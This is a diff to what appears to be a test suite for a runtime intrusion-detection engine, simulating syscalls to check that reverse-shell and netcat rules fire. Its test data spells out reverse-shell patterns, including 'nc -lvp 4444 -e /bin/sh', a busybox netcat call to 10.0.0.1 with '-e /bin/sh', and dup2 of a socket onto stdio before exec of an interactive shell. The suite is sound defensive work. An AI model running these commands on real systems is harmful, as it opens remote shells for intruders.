@@ -91,8 +91,7 @@ scenario('xinetd dup2', false, 'Network Socket Redirected to Standard Stream', (
 scenario('reverse shell exec', true, 'Shell Started with Network Socket as Standard Stream', (s) => { const t = spawn(s, 100, 'python3'); connect(s, t, 4444); for (const n of [0, 1, 2]) feed(s, 'SYSCALL_DUP2_X', t, { res: n, oldfd: 3, newfd: n }); exec(s, t, 'sh', { exepath: '/bin/dash', args: ['-i'] }); });
 // Python (and most runtimes) create sockets close-on-exec; dup2 clears that flag on the
 // new descriptor, so the shell still has the socket as its stdio.
-scenario('reverse shell exec, close-on-exec socket', true, 'Shell Started with Network Socket as Standard Stream', (s) => { const t = spawn(s, 100, 'python3'); connect(s, t, 4444, 3, 4096); for (const n of [0, 1, 2]) feed(s, 'SYSCALL_DUP2_X', t, { res: n, oldfd: 3, newfd: n }); exec(s, t, 'sh', { exepath: '/bin/dash', args: ['-i'] }); },
-  'state: dup2 copies keep the source socket\'s close-on-exec flag, so execve drops them (dup2/dup never set it on the new fd)');
+scenario('reverse shell exec, close-on-exec socket', true, 'Shell Started with Network Socket as Standard Stream', (s) => { const t = spawn(s, 100, 'python3'); connect(s, t, 4444, 3, 4096); for (const n of [0, 1, 2]) feed(s, 'SYSCALL_DUP2_X', t, { res: n, oldfd: 3, newfd: n }); exec(s, t, 'sh', { exepath: '/bin/dash', args: ['-i'] }); });
 scenario('nc -e', true, 'Netcat Started with Program Execution', (s) => { spawn(s, 100, 'nc', { args: ['-lvp', '4444', '-e', '/bin/sh'] }); });
 scenario('nc -zv', false, 'Netcat Started with Program Execution', (s) => { spawn(s, 100, 'nc', { args: ['-zv', '127.0.0.1', '22'] }); });
 scenario('busybox nc -e', true, 'Netcat Started with Program Execution', (s) => { spawn(s, 100, 'busybox', { args: ['nc', '10.0.0.1', '4444', '-e', '/bin/sh'] }); });
